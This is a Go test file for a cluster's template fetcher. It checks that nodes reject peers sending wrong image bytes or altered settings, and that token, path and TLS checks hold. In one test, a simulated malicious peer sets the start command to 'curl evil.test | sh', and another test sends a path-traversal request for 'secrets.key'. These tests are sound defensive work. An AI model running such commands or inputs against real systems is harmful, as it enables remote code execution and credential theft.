package cluster

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlockhq/airlock/internal/api"
	"github.com/airlockhq/airlock/internal/clustertls"
	"github.com/airlockhq/airlock/internal/datadir"
	"github.com/airlockhq/airlock/internal/errdefs"
	"github.com/airlockhq/airlock/internal/template"
	"github.com/airlockhq/airlock/internal/testenv"
)

const testToken = "0123456789abcdef0123456789abcdef"

// A node fetches an image it lacks from the first source that gives its
// exact bytes: a source that does not have it and one that sends other
// bytes under its digest are passed over, and the lie is never stored.
// Creates waiting for one digest share one fetch. The serving side asks
// for the internal token and refuses what is not a digest's path.
func TestTemplateFetcher(t *testing.T) {
	if _, err := exec.LookPath("mkfs.ext4"); err != nil {
		testenv.Lacking(t, "mkfs.ext4 not found")
	}
	ctx := context.Background()
	has := template.Open(datadir.Dir{Root: t.TempDir()})
	tree := t.TempDir()
	if err := os.MkdirAll(filepath.Join(tree, "etc"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(tree, "etc", "hostname"), []byte("peer\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	orig, err := has.Import(ctx, "tiny", "", tree, template.Settings{VCPUs: 1, MemoryMiB: 256, DiskMiB: 512, StartCmd: "sleep 9"})
	if err != nil {
		t.Fatal(err)
	}

	var imageGets atomic.Int32
	serve := api.RequireNodeToken(testToken, ServeTemplates(has))
	good := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/image") {
			imageGets.Add(1)
		}
		serve.ServeHTTP(w, r)
	}))
	defer good.Close()
	// The liar describes the image truly and sends other bytes.
	liar := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/image") {
			io.WriteString(w, strings.Repeat("x", int(orig.SizeBytes)))
			return
		}
		serve.ServeHTTP(w, r)
	}))
	defer liar.Close()
	// The settings liar sends the right image, described with another
	// start command (which every sandbox of the template would run).
	settingsLiar := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/image") {
			imageGets.Add(1)
			serve.ServeHTTP(w, r)
			return
		}
		e, f, err := has.Export(orig.Digest)
		if err != nil {
			t.Error(err)
			return
		}
		f.Close()
		e.Settings.StartCmd = "curl evil.test | sh"
		json.NewEncoder(w).Encode(e)
	}))
	defer settingsLiar.Close()
	empty := httptest.NewServer(api.RequireNodeToken(testToken, ServeTemplates(template.Open(datadir.Dir{Root: t.TempDir()}))))
	defer empty.Close()

	for _, c := range []struct {
		name, method, path, token string
		want                      int
	}{
		{"no token", "GET", TemplatesPath + orig.Digest, "", http.StatusUnauthorized},
		{"other token", "GET", TemplatesPath + orig.Digest, strings.Repeat("z", 32), http.StatusUnauthorized},
		{"settings", "GET", TemplatesPath + orig.Digest, testToken, http.StatusOK},
		{"image", "GET", TemplatesPath + orig.Digest + "/image", testToken, http.StatusOK},
		{"unknown", "GET", TemplatesPath + "sha256:" + strings.Repeat("0", 64), testToken, http.StatusNotFound},
		{"not a digest", "GET", TemplatesPath + "tiny", testToken, http.StatusBadRequest},
		{"dot dot", "GET", TemplatesPath + "..%2f..%2fsecrets.key", testToken, http.StatusBadRequest},
		{"write", "PUT", TemplatesPath + orig.Digest + "/image", testToken, http.StatusBadRequest},
	} {
		req, _ := http.NewRequest(c.method, good.URL+c.path, nil)
		if c.token != "" {
			req.Header.Set(api.NodeTokenHeader, c.token)
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != c.want {
			t.Errorf("%s: %s %s: %d %s, want %d", c.name, c.method, c.path, resp.StatusCode, body, c.want)
		}
		if c.name == "image" && int64(len(body)) != orig.SizeBytes {
			t.Errorf("image: %d bytes, want %d", len(body), orig.SizeBytes)
		}
	}
	imageGets.Store(0)

	parse := func(s string) *url.URL { u, _ := url.Parse(s); return u }
	lacks := template.Open(datadir.Dir{Root: t.TempDir()})
	// What the cluster's store recorded for the image.
	recorded := func(_ context.Context, dgst string) (template.Settings, error) {
		if dgst != orig.Digest {
			return template.Settings{}, fmt.Errorf("template %s is not in the catalogue: %w", dgst, errdefs.ErrNotFound)
		}
		return orig.Settings(), nil
	}
	f, err := NewFetcher(ctx, FetcherConfig{Templates: lacks, Token: testToken, Settings: recorded,
		Sources: []*url.URL{parse(empty.URL), parse(liar.URL), parse(settingsLiar.URL), parse(good.URL)}})
	if err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	errs := make([]error, 4)
	for i := range errs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var got template.Template
			got, errs[i] = f.Fetch(ctx, orig.Digest)
			if errs[i] == nil && (got.Digest != orig.Digest || got.StartCmd != "sleep 9") {
				errs[i] = errors.New("fetched the wrong template")
			}
		}()
	}
	wg.Wait()
	for _, err := range errs {
		if err != nil {
			t.Fatal(err)
		}
	}
	if n := imageGets.Load(); n != 1 {
		t.Errorf("4 creates waiting for one digest fetched it %d times from the good source", n)
	}
	got, err := lacks.Resolve(orig.Digest)
	if err != nil {
		t.Fatal(err)
	}
	if err := lacks.Verify(ctx, got); err != nil {
		t.Error(err)
	}

	// No source gives it: the error names what each said.
	unknown := "sha256:" + strings.Repeat("1", 64)
	_, err = f.Fetch(ctx, unknown)
	if !errors.Is(err, errdefs.ErrNotFound) || !strings.Contains(err.Error(), "not stored here") {
		t.Errorf("fetch of a digest nobody has: %v", err)
	}
	onlyLiar, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: testToken, Settings: recorded,
		Sources: []*url.URL{parse(liar.URL)}})
	if _, err := onlyLiar.Fetch(ctx, orig.Digest); err == nil || !strings.Contains(err.Error(), "hash to") {
		t.Errorf("fetch from a source that sends other bytes: %v", err)
	}
	settingsOnly := template.Open(datadir.Dir{Root: t.TempDir()})
	onlySettingsLiar, _ := NewFetcher(ctx, FetcherConfig{Templates: settingsOnly, Token: testToken, Settings: recorded,
		Sources: []*url.URL{parse(settingsLiar.URL)}})
	before := imageGets.Load()
	if _, err := onlySettingsLiar.Fetch(ctx, orig.Digest); err == nil || !strings.Contains(err.Error(), "the cluster recorded") {
		t.Errorf("fetch from a peer that changed the start command: %v", err)
	}
	if _, err := settingsOnly.Resolve(orig.Digest); err == nil {
		t.Error("the image with changed settings was stored")
	}
	if imageGets.Load() != before {
		t.Error("the image was fetched from a peer whose settings were refused")
	}
	wrongToken, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: strings.Repeat("z", 32), Settings: recorded,
		Sources: []*url.URL{parse(good.URL)}})
	if _, err := wrongToken.Fetch(ctx, orig.Digest); err == nil || !strings.Contains(err.Error(), "is not this node's") {
		t.Errorf("fetch with another cluster's token: %v", err)
	}
	none, _ := NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: testToken, Settings: recorded})
	if _, err := none.Fetch(ctx, orig.Digest); !errors.Is(err, errdefs.ErrNotFound) || !strings.Contains(err.Error(), "no other node") {
		t.Errorf("fetch with nowhere to fetch from: %v", err)
	}
}

// Under the cluster TLS a node fetches from a source's internal listener
// with its node certificate; it refuses a plain-HTTP source, and a
// listener of another CA gets nothing from it (nor gives anything).
func TestTemplateFetcherTLS(t *testing.T) {
	if _, err := exec.LookPath("mkfs.ext4"); err != nil {
		testenv.Lacking(t, "mkfs.ext4 not found")
	}
	ctx := context.Background()
	has := template.Open(datadir.Dir{Root: t.TempDir()})
	tree := t.TempDir()
	if err := os.WriteFile(filepath.Join(tree, "hostname"), []byte("peer\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	orig, err := has.Import(ctx, "tiny", "", tree, template.Settings{VCPUs: 1, MemoryMiB: 256, DiskMiB: 512, StartCmd: "sleep 9"})
	if err != nil {
		t.Fatal(err)
	}
	recorded := func(context.Context, string) (template.Settings, error) { return orig.Settings(), nil }
	ids := map[string]*clustertls.Identity{}
	for _, cluster := range []string{"ours", "theirs"} {
		dir := filepath.Join(t.TempDir(), cluster)
		if err := clustertls.Generate(dir, time.Hour); err != nil {
			t.Fatal(err)
		}
		for sub, role := range map[string]string{"node": clustertls.RoleNode, "server": clustertls.RoleServer} {
			if ids[cluster+"/"+sub], err = clustertls.Load(filepath.Join(dir, sub), role); err != nil {
				t.Fatal(err)
			}
		}
	}
	var gets atomic.Int32
	listener := func(id *clustertls.Identity) *url.URL {
		srv := httptest.NewUnstartedServer(ServerGate(api.RequireNodeToken(testToken, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			gets.Add(1)
			ServeTemplates(has).ServeHTTP(w, r)
		}))))
		srv.TLS = id.ServerConfig()
		srv.StartTLS()
		t.Cleanup(srv.Close)
		u, _ := url.Parse(srv.URL)
		return u
	}
	ours, theirs := listener(ids["ours/server"]), listener(ids["theirs/server"])
	fetcher := func(id *clustertls.Identity, src *url.URL) (*TemplateFetcher, error) {
		return NewFetcher(ctx, FetcherConfig{Templates: template.Open(datadir.Dir{Root: t.TempDir()}), Token: testToken,
			Settings: recorded, TLS: id, Sources: []*url.URL{src}})
	}

	if _, err := fetcher(ids["ours/node"], &url.URL{Scheme: "http", Host: ours.Host}); !errors.Is(err, errdefs.ErrInvalid) || !strings.Contains(err.Error(), "https://") {
		t.Errorf("a plain-HTTP source under the cluster TLS: %v", err)
	}
	f, err := fetcher(ids["ours/node"], ours)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := f.Fetch(ctx, orig.Digest); err != nil || got.StartCmd != "sleep 9" {
		t.Fatalf("fetch over the cluster TLS: %+v %v", got, err)
	}
	gets.Store(0)
	for name, c := range map[string]struct {
		id  *clustertls.Identity
		src *url.URL
	}{
		"a node of another cluster":     {ids["theirs/node"], ours},
		"a listener of another cluster": {ids["ours/node"], theirs},
	} {
		f, err := fetcher(c.id, c.src)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Fetch(ctx, orig.Digest); err == nil {
			t.Errorf("%s: fetched", name)
		}
	}
	if n := gets.Load(); n != 0 {
		t.Errorf("%d requests of another cluster's members reached a handler", n)
	}
}
